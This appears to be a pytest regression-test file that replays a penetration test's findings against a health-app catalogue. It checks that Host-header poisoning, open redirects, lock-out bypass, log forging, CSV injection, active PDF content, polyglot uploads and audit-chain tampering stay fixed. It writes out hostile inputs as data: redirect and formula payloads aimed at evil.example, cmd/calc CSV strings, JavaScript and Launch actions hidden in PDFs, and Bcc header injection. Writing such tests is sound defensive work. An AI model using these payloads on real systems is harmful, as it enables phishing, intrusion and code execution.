"""Regression tests of the external probe (issue 12): each test replays the probe's
requests through HTTP and checks that the hole stays closed. F1 (assessed profile
changed after submission) is fixed and tested with the issue "The decision governs
what is published"; its regression test joins this file when that lands."""

from __future__ import annotations

import csv
import html
import io
import json
import logging
import re
from urllib.parse import unquote

import pytest
from sqlalchemy import select
from werkzeug.test import Client

from catalogue import db
from catalogue.accounts.models import Role
from catalogue.audit.models import AuditEvent
from catalogue.listings.public_cache import PublicCache

EVIL = "http://evil.example"


# --- F2: Host header poisoning -----------------------------------------------------------


def _all_text(response) -> str:
    return response.get_data(as_text=True)


@pytest.mark.parametrize("path", ["/api/v1/apps/{slug}", "/api/v1/apps", "/catalogue/feed.atom",
                                  "/opendata/catalogue.json", "/opendata/catalogue.csv"])
def test_f2_another_host_is_refused_and_never_written_into_answers(app, client, make_listing,
                                                                   monkeypatch, path):
    monkeypatch.setitem(app.config, "BASE_URL", "https://catalogue.example")
    url = path.format(slug=make_listing().app.slug)
    for _ in range(3):
        assert client.get(url, base_url=EVIL).status_code == 400
    normal = client.get(url)
    assert normal.status_code == 200
    body = _all_text(normal)
    assert "evil.example" not in body
    assert "https://catalogue.example/" in body


def test_f2_the_public_cache_cannot_be_poisoned(app, make_listing, monkeypatch):
    monkeypatch.setitem(app.config, "BASE_URL", "https://catalogue.example")
    slug = make_listing().app.slug
    cached = Client(PublicCache(app, version_reader=lambda: 12))
    for _ in range(3):
        poisoned = cached.get(f"/api/v1/apps/{slug}", base_url=EVIL)
        assert poisoned.status_code == 400
        poisoned = cached.get(f"/api/v1/apps/{slug}", headers={"Host": "evil.example"})
        assert poisoned.status_code == 400
    first = cached.get(f"/api/v1/apps/{slug}")
    again = cached.get(f"/api/v1/apps/{slug}")  # served by the cache this time
    for answer in (first, again):
        assert answer.status_code == 200
        document = json.loads(answer.get_data(as_text=True))
        assert document["url"].startswith("https://catalogue.example/catalogue/"), document["url"]


# --- F3: open redirect after sign-in -------------------------------------------------------

HOSTILE_NEXT = ["/%09/evil.example/", "/%0a/evil.example/", "/%0d%0a/evil.example/", "/%5Cevil.example/",
                "/\\/evil.example/", "//evil.example/", "/%20/evil.example/", "https://evil.example/",
                "/%E2%80%8B/evil.example/", "/%7F/evil.example/"]


def _off_site(location: str | None) -> bool:
    from urllib.parse import urljoin, urlsplit

    if location is None:
        return False
    cleaned = "".join(ch for ch in location if ch not in "\t\r\n").replace("\\", "/")
    return urlsplit(urljoin("http://localhost/connexion", cleaned)).netloc not in ("localhost", "")


@pytest.mark.parametrize("hostile", HOSTILE_NEXT)
def test_f3_sign_in_never_redirects_off_site(client, make_user, hostile):
    from tests.accounts.helpers import post_form
    from tests.factories import PASSWORD

    user = make_user()
    db.commit()
    page = client.get(f"/connexion?next={hostile}")
    assert re.search(r'name="next"[^>]*value=""', page.get_data(as_text=True))
    answer = post_form(client, "/connexion", {"email": user.email, "password": PASSWORD,
                                              "next": hostile.replace("%09", "\t")},
                       form_page=f"/connexion?next={hostile}")
    assert answer.status_code == 302
    assert not _off_site(answer.location), answer.location
    # Signed in, a plain GET of the link redirects at once: still on site.
    again = client.get(f"/connexion?next={hostile}")
    assert again.status_code == 302
    assert not _off_site(again.location), again.location
    assert again.location == "/compte/"


@pytest.mark.parametrize("hostile", HOSTILE_NEXT)
def test_f3_second_factor_never_redirects_off_site(client, make_user, login, hostile):
    member = make_user(roles=[Role.MEMBER])
    db.commit()
    login(member, second_factor=True)
    answer = client.get(f"/connexion/totp?next={hostile}")
    assert answer.status_code == 302
    assert not _off_site(answer.location), answer.location


def test_f3_local_targets_are_still_followed(client, make_user, login):
    user = make_user()
    db.commit()
    login(user)
    assert client.get("/connexion?next=/compte/securite").location == "/compte/securite"
    assert client.get("/connexion?next=/catalogue%3Fq%3Dsucre").location.startswith("/catalogue")


# --- F4: lock-out bypass by another spelling of the address · F9: attempts while locked ----


def _audit_actions(action: str) -> list[AuditEvent]:
    events = list(db.session.scalars(select(AuditEvent).where(AuditEvent.action == action)))
    db.session.rollback()
    return events


@pytest.mark.parametrize("spelling", ["pt1@ｅｘｅｍｐｌｅ.fr", "PT1@EXEMPLE.FR", " pt1@Exemple.fr "])
def test_f4_another_spelling_of_a_locked_address_stays_locked(client, make_user, spelling):
    from tests.accounts.helpers import sign_in
    from tests.factories import PASSWORD

    make_user(email="pt1@exemple.fr")
    db.commit()
    for _ in range(5):
        sign_in(client, "pt1@exemple.fr", "mauvais mot de passe")
    refused = sign_in(client, spelling, PASSWORD)
    assert refused.status_code == 429
    with client.session_transaction() as sess:
        assert "_user_id" not in sess


def test_f4_failures_under_other_spellings_count_for_the_same_account(client, make_user):
    from tests.accounts.helpers import sign_in
    from tests.factories import PASSWORD

    make_user(email="pt1@exemple.fr")
    db.commit()
    for spelling in ("pt1@ｅｘｅｍｐｌｅ.fr", "PT1@exemple.fr", "pt1@EXEMPLE.fr", "pt1@ｅｘｅｍｐｌｅ.FR",
                     "Pt1@exemple.fr"):
        sign_in(client, spelling, "mauvais mot de passe")
    assert sign_in(client, "pt1@exemple.fr", PASSWORD).status_code == 429


def test_f9_sign_in_attempts_during_lock_out_are_audited(client, make_user):
    from tests.accounts.helpers import sign_in
    from tests.factories import PASSWORD

    user = make_user(email="pt2@exemple.fr")
    db.commit()
    for _ in range(5):
        sign_in(client, "pt2@exemple.fr", "mauvais mot de passe")
    assert not _audit_actions("auth.login_while_locked")
    sign_in(client, "pt2@exemple.fr", PASSWORD)
    sign_in(client, "pt2@ｅｘｅｍｐｌｅ.fr", "autre essai")
    events = _audit_actions("auth.login_while_locked")
    assert len(events) == 2
    assert {e.subject_id for e in events} == {str(user.id)}
    assert all("exemple" not in json.dumps(e.payload) for e in events)  # no address in the trail


# --- F10: CR/LF in the request path cannot forge log lines ----------------------------------


@pytest.mark.parametrize("path", ["/x%0d%0a2026-01-01 INFO request_id=forged user=1 method=GET",
                                  "/x%0aforged%22 status=200", "/api/v1/apps/x%0d%0aforged"])
def test_f10_cr_lf_in_the_path_cannot_forge_a_log_line(client, caplog, path):
    with caplog.at_level(logging.INFO, logger="catalogue.request"):
        client.get(path)
    lines = [r.getMessage() for r in caplog.records if r.name == "catalogue.request"]
    assert lines
    for line in lines:
        assert "\r" not in line and "\n" not in line, line
        # One well-formed record: the path is a JSON string holding the CR/LF, escaped.
        match = re.fullmatch(r'request_id=[0-9a-f]{32} user=- method=GET path=(".*") status=404 '
                             r"duration_ms=[0-9.]+", line)
        assert match, line
        assert json.loads(match.group(1)) == unquote(path)


# --- F11: formulas after a separator inside a CSV cell ------------------------------------

DANGER = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", " ="])
def test_f11_csv_cells_cannot_start_a_formula_after_a_separator(client, make_listing, prefix):
    from tests.security.test_injection import retitle

    payload = f'{prefix}HYPERLINK("http://evil.example/","Cliquez")'
    retitle(make_listing(), name=f"Appli;{payload}",
            summary=f"Résumé assez long pour être accepté,{prefix}cmd|' /C calc'!A0;{prefix}1")
    body = client.get("/opendata/catalogue.csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body)))
    # Every cell is quoted, so a reader never mistakes text for a number or a formula.
    first_line = body.split("\r\n", 1)[0]
    assert first_line == ",".join(f'"{column}"' for column in rows[0])
    cells = [cell for row in rows[1:] for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)  # the text is kept, neutralised
    for cell in cells:
        for segment in re.split(r"[;,\t\r\n]", cell):
            assert segment.lstrip(" ")[:1] not in DANGER[:4], (cell, segment)
    # Read the way a French spreadsheet does (``;`` as separator): no field starts a formula.
    for row in csv.reader(io.StringIO(body), delimiter=";"):
        for field in row:
            assert field.strip(' "')[:1] not in ("=", "+", "@"), field


# --- F13: the language links stay on this site --------------------------------------------


@pytest.mark.parametrize("path", ["/%5Cevil.example/x", "/%5C%5Cevil.example/",
                                  "/%2F/evil.example/", "/catalogue/%5Cevil.example"])
def test_f13_language_links_never_leave_the_site(client, path):
    page = client.get(path).get_data(as_text=True)
    links = re.findall(r'class="lang-link[^"]*" href="([^"]*)"', page)
    assert len(links) == 2
    for href in links:
        href = html.unescape(href)
        assert href.startswith("/") and not href.startswith("//"), href
        assert "\\" not in href, href


def test_f13_language_links_keep_the_page_and_its_query(client):
    page = client.get("/catalogue?q=diab%C3%A8te").get_data(as_text=True)
    assert 'href="/catalogue?q=diab%C3%A8te&amp;lang=en"' in page


# --- F7: publisher sign-up does not reveal existing addresses ---------------------------------

PUBLISHER_SIGNUP = {"display_name": "Jeanne Martin", "password": "Une phrase de passe solide",
                    "password_confirm": "Une phrase de passe solide", "legal_name": "Santé Plus SAS",
                    "siren": "732 829 320", "siret": "", "address": "1 rue A", "postal_code": "75001",
                    "city": "Paris", "legal_representative": "Jeanne Martin, présidente",
                    "contact_email": "", "contact_phone": ""}


def _visible_text(response) -> str:
    body = response.get_data(as_text=True)
    body = re.sub(r'name="csrf_token"[^>]*>', "", body)
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", body))


def test_f7_publisher_sign_up_answers_the_same_for_an_existing_address(app, make_user):
    from tests.accounts.helpers import outbox, post_form

    make_user(email="deja@exemple.fr")
    db.commit()
    answers = {}
    for email in ("deja@exemple.fr", "nouvelle@exemple.fr"):
        fresh = app.test_client()
        answers[email] = post_form(fresh, "/inscription/editeur",
                                   {**PUBLISHER_SIGNUP, "email": email,
                                    "siren": "732 829 320" if email.startswith("deja") else "552 100 554"},
                                   form_page="/inscription/editeur")
    existing, new = answers["deja@exemple.fr"], answers["nouvelle@exemple.fr"]
    assert existing.status_code == new.status_code == 200
    assert "existe déjà" not in existing.get_data(as_text=True)
    assert _visible_text(existing).replace("deja@", "X@") == _visible_text(new).replace("nouvelle@", "X@")
    # The owner of the existing address is told by e-mail; nothing is created for them.
    assert len(outbox("account_exists", "deja@exemple.fr")) == 1
    assert len(outbox("verify_email", "nouvelle@exemple.fr")) == 1
    assert not outbox("verify_email", "deja@exemple.fr")
    db.session.rollback()


def test_f7_other_errors_are_still_shown_for_an_existing_address(client, make_user):
    from tests.accounts.helpers import post_form

    make_user(email="deja2@exemple.fr")
    db.commit()
    answer = post_form(client, "/inscription/editeur",
                       {**PUBLISHER_SIGNUP, "email": "deja2@exemple.fr", "siren": "732829321"})
    assert answer.status_code == 422
    assert "clé de contrôle" in answer.get_data(as_text=True)
    assert "existe déjà" not in answer.get_data(as_text=True)


# --- Also: e-mail confirmation is enforced ------------------------------------------------


def _unverified(make_user, roles=(), email=None):
    user = make_user(roles=roles, email=email)
    user.email_verified_at = None
    db.commit()
    return user


def test_unconfirmed_patient_sees_only_the_confirmation_page_and_cannot_connect_an_app(
        client, make_listing, make_user):
    from catalogue.consents.models import Consent
    from tests.accounts.helpers import link_token, outbox, post_form, sign_in
    from tests.factories import PASSWORD

    slug = make_listing().app.slug
    patient = _unverified(make_user, roles=[Role.PATIENT], email="pt3@exemple.fr")
    signed_in = sign_in(client, "pt3@exemple.fr", PASSWORD)
    assert signed_in.location == "/compte/confirmation"
    for path in ("/compte/", "/compte/connexions", f"/compte/connexions/nouvelle/{slug}",
                 "/compte/securite", "/editeur/", "/compte/export"):
        answer = client.get(path)
        assert answer.status_code == 302 and answer.location == "/compte/confirmation", path
    page = client.get("/compte/confirmation")
    assert page.status_code == 200 and "Confirmez votre adresse e-mail" in page.get_data(as_text=True)
    forced = post_form(client, f"/compte/connexions/nouvelle/{slug}", {"scopes": ["documents"]},
                       form_page="/compte/confirmation")
    assert forced.location == "/compte/confirmation"
    assert db.session.scalar(select(Consent).where(Consent.patient_id == patient.id)) is None
    db.session.rollback()
    # The link of the e-mail opens the account.
    post_form(client, "/compte/verification", {}, form_page="/compte/confirmation")
    [mail] = outbox("verify_email", "pt3@exemple.fr")
    client.get("/compte/verification/" + link_token(mail, "/compte/verification/"))
    assert client.get(f"/compte/connexions/nouvelle/{slug}").status_code == 200


def test_unconfirmed_publisher_reaches_nothing_of_the_publisher_space(client, make_organisation,
                                                                     login):
    from tests.factories_publishers import owner_of

    organisation = make_organisation()
    owner = owner_of(db.session, organisation)
    owner.email_verified_at = None
    db.commit()
    login(owner)
    for path in ("/editeur/", f"/editeur/organisations/{organisation.id}", "/compte/notifications"):
        answer = client.get(path)
        assert answer.status_code == 302 and answer.location == "/compte/confirmation", path


# --- F14: control characters in single-line fields; the mailer never loses a message ------


def test_f14_single_line_fields_lose_their_line_breaks_and_controls(client, login, make_organisation):
    from catalogue.apps.models import App
    from tests.accounts.helpers import post_form
    from tests.apps.test_views import FORM
    from tests.factories_publishers import owner_of

    organisation = make_organisation()
    owner = owner_of(db.session, organisation)
    db.commit()
    login(owner)
    url = f"/editeur/organisations/{organisation.id}/applications/nouvelle"
    answer = post_form(client, url, {**FORM, "name": "Appli\r\nBcc: victime@exemple.fr\x07\u2028fin",
                                     "description": "Ligne 1\nLigne 2"})
    assert answer.status_code == 302
    app_row = db.session.scalar(select(App).where(App.organisation_id == organisation.id))
    assert app_row.name == "Appli Bcc: victime@exemple.fr fin"
    assert app_row.description == "Ligne 1\nLigne 2"  # multi-line text keeps its lines
    db.session.rollback()


def test_f14_a_line_break_in_an_app_name_does_not_lose_the_mail(client, login, make_listing,
                                                              make_patient, make_user):
    """An app name stored before the filter existed (here: written by the service) still
    gets its report mailed to the secretariat, with a one-line subject."""
    from sqlalchemy import update

    from catalogue.apps.models import App
    from catalogue.notifications.models import OutboxMessage
    from tests.accounts.helpers import post_form
    from tests.smtp import smtp_server

    listing = make_listing()
    db.session.execute(update(App).where(App.id == listing.app_id).values(name="Appli\r\nBcc: x@y.fr"))
    slug = listing.app.slug
    make_user(roles=[Role.SECRETARIAT])
    patient = make_patient()
    db.commit()
    login(patient)
    with smtp_server() as sink:
        answer = post_form(client, f"/catalogue/{slug}/signaler",
                           {"kind": "security", "text": "Les données s'affichent sans connexion."})
        assert answer.status_code in (302, 303)
        rows = db.session.scalars(select(OutboxMessage).where(OutboxMessage.message == "report_created")
                                  ).all()
        assert rows and all(r.sent_at is not None and r.last_error is None for r in rows), \
            [r.last_error for r in rows]
        assert all("\n" not in r.subject and "\r" not in r.subject for r in rows)
        assert len(sink.messages) == len(rows)
    db.session.rollback()


def test_f14_any_failure_of_one_message_is_recorded_and_retried(app):
    from catalogue.notifications import services as notifications
    from catalogue.notifications.models import OutboxMessage
    from tests.smtp import smtp_server

    # A message queued before the fix: its subject breaks the e-mail package (ValueError).
    broken = OutboxMessage(message="report_created", recipient="a@exemple.fr",
                           subject="Signalement\r\nBcc: x@y.fr", text_body="…", html_body="")
    fine = OutboxMessage(message="report_created", recipient="b@exemple.fr", subject="Signalement",
                         text_body="…", html_body="")
    db.session.add_all([broken, fine])
    db.commit()
    with smtp_server() as sink:
        assert notifications.deliver_pending(db.session, [broken.id, fine.id]) == 1
        assert len(sink.messages) == 1
    db.session.refresh(broken)
    assert broken.sent_at is None and broken.attempts == 1
    assert broken.last_error and broken.last_error.startswith("ValueError")
    assert broken.next_attempt_at is not None
    db.session.rollback()


# --- F5: PDF active content hidden in compressed object streams · F12: polyglots -------------


def _pdf_in_object_streams(**catalogue_entries) -> bytes:
    """A PDF whose objects (the catalogue and the actions included) sit in Flate-compressed
    object streams, as a PDF library writes them: none of the names appears in the bytes."""
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    for key, value in catalogue_entries.items():
        pdf.Root["/" + key] = value(pdf) if callable(value) else value
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return out.getvalue()


def _pdf_case(case: str) -> bytes:
    from pikepdf import Array, Dictionary, Name, String

    def js():
        return Dictionary(S=Name.JavaScript, JS=String("app.alert(document.cookie)"))

    entries = {
        "open action javascript": {"OpenAction": lambda pdf: pdf.make_indirect(js())},
        "open action launch": {"OpenAction": lambda pdf: pdf.make_indirect(
            Dictionary(S=Name.Launch, F=String("calc.exe")))},
        "document additional action": {"AA": lambda pdf: Dictionary(WC=pdf.make_indirect(js()))},
        "javascript name tree": {"Names": lambda pdf: Dictionary(JavaScript=pdf.make_indirect(
            Dictionary(Names=Array([String("x"), pdf.make_indirect(js())]))))},
        "embedded file": {"Names": lambda pdf: Dictionary(EmbeddedFiles=pdf.make_indirect(
            Dictionary(Names=Array([String("a.exe"), pdf.make_indirect(Dictionary(
                Type=Name.Filespec, F=String("a.exe"),
                EF=Dictionary(F=pdf.make_stream(b"MZ", Type=Name.EmbeddedFile))))]))))},
        "xfa form": {"AcroForm": lambda pdf: pdf.make_indirect(Dictionary(
            Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp/>")))},
    }
    return _pdf_in_object_streams(**entries[case])


PDF_CASES = ["document additional action", "embedded file", "javascript name tree",
             "open action javascript", "open action launch", "xfa form"]


@pytest.mark.parametrize("case", PDF_CASES)
def test_f5_active_pdf_content_in_compressed_object_streams_is_refused(case, client, login,
                                                                      make_dossier):
    from tests.security.helpers import evidence_count, prepare_upload

    data = _pdf_case(case)
    assert b"JavaScript" not in data and b"/Launch" not in data and b"/XFA" not in data  # hidden
    upload = prepare_upload(make_dossier, login, client)
    before = evidence_count(upload.organisation_id)
    answer = upload.post("rapport.pdf", data, csrf_token=_csrf(client, upload.url))
    assert answer.status_code == 422, case
    assert "contenu actif" in html.unescape(answer.get_data(as_text=True))
    assert evidence_count(upload.organisation_id) == before


def test_f5_a_plain_pdf_in_object_streams_is_accepted(client, login, make_dossier):
    from tests.security.helpers import evidence_count, prepare_upload

    upload = prepare_upload(make_dossier, login, client)
    before = evidence_count(upload.organisation_id)
    answer = upload.post("rapport.pdf", _pdf_in_object_streams(), csrf_token=_csrf(client, upload.url))
    assert answer.status_code in (302, 303)
    assert evidence_count(upload.organisation_id) == before + 1


def _csrf(client, url: str) -> str:
    from tests.accounts.helpers import csrf_token

    return csrf_token(client, url)


def _jpeg() -> bytes:
    from tests.security.test_uploads import jpeg

    return jpeg()


def _zip(members: dict[str, bytes]) -> bytes:
    from tests.security.test_uploads import zip_of

    return zip_of(members)


def _jpeg_with_comment(comment: bytes) -> bytes:
    data = _jpeg()
    return data[:2] + b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment + data[2:]


def _polyglots() -> dict[str, tuple[str, bytes]]:
    from catalogue.dossiers.samples import sample_png
    from tests.dossiers.test_uploads import office

    archive = _zip({"evil.html": b"<b>x</b>", "payload.exe": b"MZ" + b"\0" * 64})
    settings_rels = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                     b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                     b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                     b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
    image_rels = settings_rels.replace(b"attachedTemplate", b"image").replace(b"t.dotm", b"pixel.png")
    return {
        "jpeg + zip + end marker": ("photo.jpg", _jpeg() + archive + b"\xff\xd9"),
        "jpeg + jpeg + zip": ("photo.jpg", _jpeg() + _jpeg() + archive),
        "jpeg + trailing bytes + end marker": ("photo.jpg", _jpeg() + b"PK\x03\x04junk" + b"\xff\xd9"),
        "zip inside a jpeg comment": ("photo.jpg", _jpeg_with_comment(archive)),
        "png + zip + IEND": ("a.png", sample_png("x") + archive + sample_png("x")[-12:]),
        "pdf + zip": ("a.pdf", archive + b"\n" + _pdf_in_object_streams()),
        "docx with external attachedTemplate": ("a.docx", office("docx", {
            "word/_rels/settings.xml.rels": settings_rels})),
        "xlsx with an external image": ("a.xlsx", office("xlsx", {
            "xl/drawings/_rels/drawing1.xml.rels": image_rels})),
        "odt with a linked image": ("a.odt", office("odt", {"styles.xml": (
            b'<office:document-styles><draw:image xlink:href="http://evil.example/p.png"/>'
            b"</office:document-styles>")})),
    }


POLYGLOTS = ["docx with external attachedTemplate", "jpeg + jpeg + zip", "jpeg + trailing bytes + end marker",
             "jpeg + zip + end marker", "odt with a linked image", "pdf + zip", "png + zip + IEND",
             "xlsx with an external image", "zip inside a jpeg comment"]


@pytest.mark.parametrize("case", POLYGLOTS)
def test_f12_polyglots_and_external_relationships_are_refused(case, client, login, make_dossier):
    from tests.security.helpers import evidence_count, prepare_upload

    filename, data = _polyglots()[case]
    upload = prepare_upload(make_dossier, login, client)
    before = evidence_count(upload.organisation_id)
    answer = upload.post(filename, data, csrf_token=_csrf(client, upload.url))
    assert answer.status_code == 422, case
    assert evidence_count(upload.organisation_id) == before


def test_f12_documents_with_hyperlinks_and_plain_images_are_accepted(client, login, make_dossier):
    from catalogue.dossiers.samples import sample_png
    from tests.dossiers.test_uploads import office
    from tests.security.helpers import evidence_count, prepare_upload

    link_rels = (b'<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
                 b'officeDocument/2006/relationships/hyperlink" Target="https://exemple.fr/" '
                 b'TargetMode="External"/></Relationships>')
    upload = prepare_upload(make_dossier, login, client)
    before = evidence_count(upload.organisation_id)
    # A phone photo with a secondary image (Multi-Picture Format: HDR gain map) is a photo.
    for filename, data in (("a.docx", office("docx", {"word/_rels/document.xml.rels": link_rels})),
                           ("photo.jpg", _jpeg()), ("a.png", sample_png("Écran")),
                           ("hdr.jpg", _jpeg() + _jpeg())):
        answer = upload.post(filename, data, csrf_token=_csrf(client, upload.url))
        assert answer.status_code in (302, 303), (filename, answer.get_data(as_text=True)[-2000:])
    assert evidence_count(upload.organisation_id) == before + 4


# --- F8: truncation and recomputation of the audit chain ------------------------------------


def _sign_in_a_few_times(client, make_user, times: int = 3) -> None:
    from tests.accounts.helpers import sign_in
    from tests.factories import PASSWORD

    user = make_user()
    db.commit()
    for _ in range(times):
        sign_in(client, user.email, PASSWORD)
        client.post("/deconnexion", data={"csrf_token": _csrf(client, "/compte/")})


def _cli(app, *args: str):
    return app.test_cli_runner().invoke(args=list(args))


def test_f8_a_truncated_chain_is_caught_by_the_checkpoint(app, client, make_user, tmp_path):
    from sqlalchemy import delete, func

    _sign_in_a_few_times(client, make_user)
    checkpoint = tmp_path / "checkpoint.json"
    assert _cli(app, "audit", "checkpoint", "-o", str(checkpoint)).exit_code == 0
    statement = json.loads(checkpoint.read_text())
    assert statement["count"] >= 4 and len(statement["signature"]) == 64
    assert _cli(app, "audit", "verify", "--checkpoint", str(checkpoint)).exit_code == 0
    # Later events, then the newest ones deleted: the remaining chain is valid on its own…
    _sign_in_a_few_times(client, make_user, times=1)
    newest = db.session.scalar(select(func.max(AuditEvent.id)))
    db.session.execute(delete(AuditEvent).where(AuditEvent.id >= statement["last_id"] - 1))
    db.commit()
    assert newest > statement["last_id"]
    assert _cli(app, "audit", "verify").exit_code == 0
    # …but not against the checkpoint kept elsewhere.
    result = _cli(app, "audit", "verify", "--checkpoint", str(checkpoint))
    assert result.exit_code == 1
    assert "tronquée" in result.output


def test_f8_a_chain_recomputed_after_an_edit_is_caught(app, client, make_user, tmp_path):
    import hashlib

    from catalogue.audit import services as audit

    _sign_in_a_few_times(client, make_user)
    checkpoint = tmp_path / "checkpoint.json"
    _cli(app, "audit", "checkpoint", "-o", str(checkpoint))
    # The attacker edits an event and recomputes every hash after it, as the old plain
    # SHA-256 chain allowed: without the key the chain no longer verifies.
    events = list(db.session.scalars(select(AuditEvent).order_by(AuditEvent.id)))
    events[1].payload = {**events[1].payload, "edited": True}
    previous = audit.GENESIS
    for event in events:
        event.prev_hash = previous
        event.hash = hashlib.sha256(audit.content_blob(event)).hexdigest()
        previous = event.hash
    db.commit()
    result = _cli(app, "audit", "verify")
    assert result.exit_code == 1 and "rompue" in result.output
    # Even with the chain re-keyed (the key stolen), the checkpoint's head hash differs.
    previous = audit.GENESIS
    for event in db.session.scalars(select(AuditEvent).order_by(AuditEvent.id)):
        event.prev_hash = previous
        event.hash = audit.compute_hash(event)
        previous = event.hash
    db.commit()
    assert _cli(app, "audit", "verify").exit_code == 0
    result = _cli(app, "audit", "verify", "--checkpoint", str(checkpoint))
    assert result.exit_code == 1 and "recalculée" in result.output


def test_f8_a_forged_checkpoint_is_refused(app, client, make_user, tmp_path):
    _sign_in_a_few_times(client, make_user)
    checkpoint = tmp_path / "checkpoint.json"
    _cli(app, "audit", "checkpoint", "-o", str(checkpoint))
    statement = json.loads(checkpoint.read_text())
    checkpoint.write_text(json.dumps({**statement, "count": statement["count"] - 1}))
    result = _cli(app, "audit", "verify", "--checkpoint", str(checkpoint))
    assert result.exit_code == 1 and "pas signé" in result.output
    # To standard output by default.
    printed = _cli(app, "audit", "checkpoint")
    assert printed.exit_code == 0 and json.loads(printed.output)["scheme"].startswith("catalogue-ens")


# --- F6: a member cannot end their declaration just before voting --------------------------


def _scheduled_with_a_declared_member(review_dossier, advance, team, *, started_on, ended_on=None):
    from catalogue.commission import services as commission

    dossier = advance(review_dossier(), "scheduled")
    member = team.members[0]
    declaration = commission.declare_interest(db.session, actor=member,
                                              organisation_id=dossier.organisation_id,
                                              nature="Ancien salarié", started_on=started_on,
                                              ended_on=ended_on)
    db.commit()
    return dossier, member, declaration


def test_f6_a_declaration_is_frozen_while_its_publisher_is_on_the_agenda(
        client, login, team, review_dossier, advance, clock):
    from datetime import date, timedelta

    from catalogue.clock import today
    from catalogue.commission.models import AgendaItem, CommissionSession, InterestDeclaration

    dossier, member, declaration = _scheduled_with_a_declared_member(
        review_dossier, advance, team, started_on=date(2025, 1, 1))
    login(member)
    url = f"/commission/interets/{declaration.id}"
    yesterday = (today() - timedelta(days=1)).isoformat()
    organisation = dossier.organisation_id
    answer = client.post(url, data={"csrf_token": _csrf(client, url), "organisation_id": organisation,
                                    "nature": "Ancien salarié", "started_on": "2025-01-01",
                                    "ended_on": yesterday})
    assert answer.status_code == 422
    page = html.unescape(answer.get_data(as_text=True))
    assert "ne peut être ni close ni raccourcie" in page and "transmise au secrétariat" in page
    assert db.session.get(InterestDeclaration, declaration.id).ended_on is None
    [request] = _audit_actions("commission.interest_change_requested")
    assert request.actor_id == member.id and request.payload["dossier_ids"] == [dossier.id]
    # The nature may still be completed.
    answer = client.post(url, data={"csrf_token": _csrf(client, url), "organisation_id": organisation,
                                    "nature": "Ancien salarié (2019-2024)", "started_on": "2025-01-01",
                                    "ended_on": ""})
    assert answer.status_code == 302
    # The request appears in the session's minutes.
    from catalogue.commission.minutes import render_minutes

    item = db.session.scalar(select(AgendaItem).where(AgendaItem.dossier_id == dossier.id))
    minutes = render_minutes(db.session, db.session.get(CommissionSession, item.session_id))
    assert "Demandes de modification de déclarations d'intérêts" in minutes
    assert "transmise au secrétariat" in minutes
    db.session.rollback()


def test_f6_no_vote_when_a_declaration_covered_a_day_since_scheduling(
        client, login, team, review_dossier, advance, clock):
    from datetime import date, timedelta

    from sqlalchemy import update

    from catalogue.clock import today
    from catalogue.commission.models import AgendaItem, CommissionSession, InterestDeclaration, Vote
    from tests.factories_commission import open_with_attendance

    dossier, member, declaration = _scheduled_with_a_declared_member(
        review_dossier, advance, team, started_on=date(2025, 1, 1))
    clock.shift(timedelta(days=3))
    # The declaration ended yesterday (however it was changed): it covered days since scheduling.
    db.session.execute(update(InterestDeclaration).where(InterestDeclaration.id == declaration.id)
                       .values(ended_on=today() - timedelta(days=1)))
    item = db.session.scalar(select(AgendaItem).where(AgendaItem.dossier_id == dossier.id))
    open_with_attendance(db.session.get(CommissionSession, item.session_id), team)
    db.commit()
    login(member)
    page = f"/commission/seances/{item.session_id}"
    answer = client.post(f"{page}/points/{item.id}/vote",
                         data={"csrf_token": _csrf(client, page), "choice": "favourable"},
                         follow_redirects=True)
    assert "depuis l'inscription du dossier" in html.unescape(answer.get_data(as_text=True))
    assert db.session.scalar(select(Vote.id).where(Vote.voter_id == member.id)) is None
    # A member whose link ended before the dossier was scheduled votes.
    other = team.members[1]
    from catalogue.commission import services as commission

    commission.declare_interest(db.session, actor=other, organisation_id=dossier.organisation_id,
                                nature="Stage", started_on=date(2020, 1, 1), ended_on=date(2021, 1, 1))
    db.commit()
    login(other)
    answer = client.post(f"{page}/points/{item.id}/vote",
                         data={"csrf_token": _csrf(client, page), "choice": "favourable"})
    assert answer.status_code == 302
    assert db.session.scalar(select(Vote.id).where(Vote.voter_id == other.id)) is not None
    db.session.rollback()


# --- Also: the OpenAPI document and the behaviour agree ------------------------------------


@pytest.mark.parametrize(("path", "expected"), [
    ("/api/v1/apps?sort=relevance", 200),                       # allowed by the enum: default order
    ("/api/v1/frameworks/ENS/2026.1?profile=", 200),            # the empty list (style form, no explode)
    ("/api/v1/frameworks/ENS/2026.1?profile=uses_ai,processes_health_data", 200),
    ("/api/v1/frameworks/ENS/2026.1?profile=uses_ai&profile=processes_health_data", 400),
    ("/api/v1/apps?category=", 400),                            # minItems 1
])
def test_openapi_document_and_behaviour_agree(client, ens_waves, make_listing, path, expected):
    make_listing()
    document = client.get("/api/v1/openapi.json").json
    answer = client.get(path)
    assert answer.status_code == expected, answer.get_data(as_text=True)
    operation = document["paths"]["/api/v1/apps" if "/apps" in path else
                                  "/api/v1/frameworks/{code}/{version}"]["get"]
    declared = {p["name"]: p for p in operation["parameters"]}
    for name in ("profile", "category"):
        if name in declared:
            # Comma-separated in one parameter, as parsed: a repeated one is not this serialisation.
            assert declared[name]["style"] == "form" and declared[name]["explode"] is False
    if "sort=relevance" in path:
        assert "relevance" in declared["sort"]["schema"]["enum"]
        assert answer.json["sort"] == "name"


@pytest.mark.parametrize("mode", ["positive", "negative"])
def test_schemathesis_finds_no_contract_mismatch(app, make_listing, ens_waves, mode):
    """Valid generated requests are accepted, invalid ones refused (the checks that found
    the mismatches), on the catalogue and framework operations."""
    import schemathesis
    from hypothesis import given
    from schemathesis import GenerationMode
    from schemathesis.checks import negative_data_rejection, positive_data_acceptance

    from tests.security.conftest import bounded

    make_listing()
